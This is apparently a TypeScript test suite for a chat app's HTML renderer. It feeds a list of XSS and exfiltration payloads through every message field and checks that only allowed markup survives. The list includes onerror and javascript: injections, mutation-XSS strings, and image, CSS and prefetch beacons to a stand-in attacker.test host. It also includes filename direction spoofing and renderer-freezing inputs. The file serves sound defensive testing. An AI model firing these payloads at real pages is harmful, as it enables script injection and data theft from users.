/** Hostile text in every place of a message: what comes out holds only tags, attributes and addresses of ours. */
import { describe, expect, it } from 'vitest'
import type { Attachment, Part } from '../conversation.ts'
import { allowedAttributes, allowedTags } from './allowed-markup.ts'
import { markdownToHtml } from './markdown.ts'
import { partsToHtml } from './parts.ts'

const look = { fileUrl: (hash: string) => `app://media/${hash}`, isStatic: false }

/** What a document must not hold: found by reading tags and attributes one after the other, as a browser does. */
function unsafeMarkup(html: string): string[] {
  const found: string[] = []
  const tagStart = /<(\/?)([a-zA-Z][^\s/>]*)|<[!?/]/g
  for (let tag = tagStart.exec(html); tag; tag = tagStart.exec(html)) {
    const name = tag[2]
    if (name === undefined) {
      found.push(tag[0])
      continue
    }
    if (!allowedTags.includes(name)) found.push(`<${name}>`)
    const attribute = /\s*([^\s=>/]+)="([^"<>]*)"|\s*\/?>/y
    attribute.lastIndex = tagStart.lastIndex
    for (;;) {
      const next = attribute.exec(html)
      if (!next) {
        found.push(`unreadable <${name}>`)
        break
      }
      if (next[1] === undefined) break
      if (isUnsafe(next[1], next[2] ?? '')) found.push(`${next[1]}="${next[2]}"`)
      tagStart.lastIndex = attribute.lastIndex
    }
  }
  return found
}

function isUnsafe(name: string, value: string): boolean {
  if (!allowedAttributes.includes(name)) return true
  if (name === 'src') return !value.startsWith('app://media/')
  if (name === 'href') return !/^(?:https?:\/\/|mailto:)/.test(value)
  if (name === 'style') return /url|expression|position:(?!relative)|@/i.test(value)
  return false
}

const attacks: Readonly<Record<string, string>> = {
  A01: '<img src=x onerror="__pwn=1">',
  A02: '"><img src=1 onerror="__pwn=1">',
  A03: '</pre><img src=x onerror=__pwn=1><pre>',
  A04: '<!--><img src=x onerror=__pwn=1>-->',
  A05: '<noscript><p title="</noscript><img src=x onerror=__pwn=1>">',
  A06: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn=1&gt;">',
  A07: '<details open ontoggle=__pwn=1>x</details>',
  A08: '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  A09: '[a](javascript:__pwn=1) [b](JaVaScRiPt:__pwn=1) [c](java&Tab;script:__pwn=1)',
  A10: '<form><button formaction="javascript:__pwn=1">x</button></form>',
  A11: '```fountain"><img src=x onerror=__pwn=1>\nx\n```',
  A12: '<lobeArtifact type="image/svg+xml"><svg><image href="x" onerror="__pwn=1"/></svg></lobeArtifact>',
  A13: '<antArtifact type="text/html"><script>parent.__pwn=1</script></antArtifact>',
  A14: ':::artifact{type="text/html"}\n<script>parent.__pwn=1</script>\n:::',
  A15: '<form id=api><input name=list></form><img name=api><a id=location href=x>',
  A16: '<meta http-equiv=refresh content="0;url=http://attacker.test/meta">',
  A17: '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:__pwn=1"\n```',
  A22: '$$\\href{javascript:__pwn=1}{x}$$ and $$\\url{JAVASCRIPT:__pwn=1}$$',
  A23: '$$\\includegraphics[height=1em]{http://attacker.test/k}$$',
  A24: '$$\\htmlStyle{background:url(http://attacker.test/s)}{x}$$',
  A25: '$$\\htmlData{x=" onmouseover=__pwn=1 y}{z}$$',
  A26: '<style>body{display:none}</style><div style="position:fixed;inset:0">Your session expired</div>',
  A27: '\u202egpj.exe user\u200f@\u200fadmin',
  B01: '![x](http://attacker.test/p.png?d=SECRET) ![a][r]\n\n[r]: http://attacker.test/ref.png',
  B02: '<img srcset="http://attacker.test/a 1x, http://attacker.test/b 2x">',
  B03: '<video poster=http://attacker.test/v></video><audio src=http://attacker.test/a autoplay></audio>',
  B04: '<style>@import url(http://attacker.test/i.css)</style><p style="background:url(http://a.test/st)">',
  B05: '<link rel=prefetch href=http://attacker.test/pf>',
  B06: '<base href=http://attacker.test/><img src=rel.png>',
  B07: '<svg><image href=http://attacker.test/s></image></svg>',
  B08: '<object data=http://attacker.test/o></object><embed src=http://attacker.test/e>',
  B09: '<img src="\\\\attacker.test\\share\\a.png"> ![x](\\\\attacker.test\\a.png) ![y](//attacker.test/p)',
  B10: '<a href="http://attacker.test/" ping="http://attacker.test/ping">x</a>',
  C01: '[x](ms-msdt:/id) [y](smb://attacker.test/x)',
  C02: '[x](file:///usr/bin/xcalc) [y](vbscript:x) [z](data:text/html,<script>1</script>)',
  C03: '[https://bank.test](https://bank.test@attacker.test/)',
  C05: '[x](\u0001javascript:__pwn=1) [y](https:/\\attacker.test)',
  quotes: `"'><x y="1' onclick=1`,
}

/** A message that carries the same text in every field that a source can fill. */
function partsFull(text: string): Part[] {
  return [
    { type: 'text', text },
    { type: 'thinking', text, title: text },
    { type: 'code', language: text, text },
    { type: 'tool-call', id: text, name: text, input: { [text]: text }, output: text },
    { type: 'tool-call', name: 'x', input: text },
    { type: 'tool-result', name: text, text },
    { type: 'quote', title: text, url: text, text },
    { type: 'quote', title: null, url: 'javascript:__pwn=1', text: '' },
    { type: 'transcript', text, direction: 'in' },
    { type: 'context', title: text, text },
    { type: 'error', name: text, text },
    { type: 'unknown', kind: text, raw: { [text]: [text] } },
    ...(['image', 'audio', 'video', 'file'] as const).flatMap((kind) => [
      attached(kind, text, text),
      attached(kind, `${kind}-stored`, text),
    ]),
  ]
}

function attached(kind: 'image' | 'audio' | 'video' | 'file', ref: string, text: string): Part {
  return {
    type: 'attachment',
    kind,
    ref,
    name: text,
    mime: text,
    size: 5,
    width: Number.NaN,
    height: 1e9,
    description: text,
  }
}

function attachmentsFull(text: string): Attachment[] {
  const stored = ['image', 'audio', 'video', 'file'].map((kind) => ({
    ref: `${kind}-stored`,
    hash: 'a'.repeat(64),
    mime: null,
    missing: null,
  }))
  return [...stored, { ref: text, hash: null, mime: text, missing: text }]
}

describe('hostile text', () => {
  it.each(Object.entries(attacks))('%s comes out as text, in every field of every part', (_row, text) => {
    const html = partsToHtml(partsFull(text), attachmentsFull(text), look)
    expect(unsafeMarkup(html)).toEqual([])
  })

  it('is seen by the check itself', () => {
    expect(unsafeMarkup('<p onclick="x">')).toEqual(['onclick="x"'])
    expect(unsafeMarkup('<img src="http://a.test/p">')).toEqual(['src="http://a.test/p"'])
    expect(unsafeMarkup('<a href="javascript:x">')).toEqual(['href="javascript:x"'])
    expect(unsafeMarkup('<script>')).toEqual(['<script>'])
    expect(unsafeMarkup('<p title=x>')).not.toEqual([])
  })

  it.each(['A09', 'C01', 'C02', 'C05', 'B09'])('%s gives no link at all', (row) => {
    expect(markdownToHtml(attacks[row] ?? '', look)).not.toContain('<a ')
  })

  it('C03 gives no link to the host behind the user name', () => {
    const links = markdownToHtml(attacks['C03'] ?? '', look).match(/href="[^"]*"/g)
    expect(new Set(links)).toEqual(new Set(['href="https://bank.test"']))
  })

  it('spells out characters that turn the reading direction of a file name', () => {
    const html = partsToHtml([attached('file', 'x', '\u202egpj.exe')], [], look)
    expect(html).toContain('<bdi>[U+202E]gpj.exe</bdi>')
    expect(html.replace(/<p dir="auto">.*?<\/p>/, '')).not.toContain('\u202e')
  })
})

describe('text made to stop the app', () => {
  const rows: Readonly<Record<string, string>> = {
    'ten thousand quote marks': '>'.repeat(10_000),
    'fifty thousand brackets': '['.repeat(50_000),
    'a list of many levels': Array.from({ length: 440 }, (_, level) => `${'  '.repeat(level)}- a`).join('\n'),
    'a line of ten megabytes': 'a '.repeat(5_000_000),
    'a table of many cells': `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(10_000)}`,
    'a formula of a hundred thousand characters': `$$${'x+'.repeat(50_000)}$$`,
    'braces without end': `$$${'{'.repeat(4900)}$$`,
    'a macro that calls itself': '$$\\def\\a{\\a\\a}\\a$$',
    'formulas that are opened and never closed': '\\[\n'.repeat(60_000),
    'a megabyte of code': `\`\`\`\n${'x = 1\n'.repeat(30_000)}\`\`\``,
    'a long line of code': `\`\`\`csharp\n${'a'.repeat(49_000)}\n\`\`\``,
    'thousands of empty lines of code': `\`\`\`haskell\n${'\n'.repeat(49_000)}x\n\`\`\``,
  }
  it.each(Object.entries(rows))('%s is shown within two seconds', (_name, text) => {
    const started = performance.now()
    expect(partsToHtml([{ type: 'text', text }], [], look)).not.toBe('')
    expect(performance.now() - started).toBeLessThan(2000)
  })
})
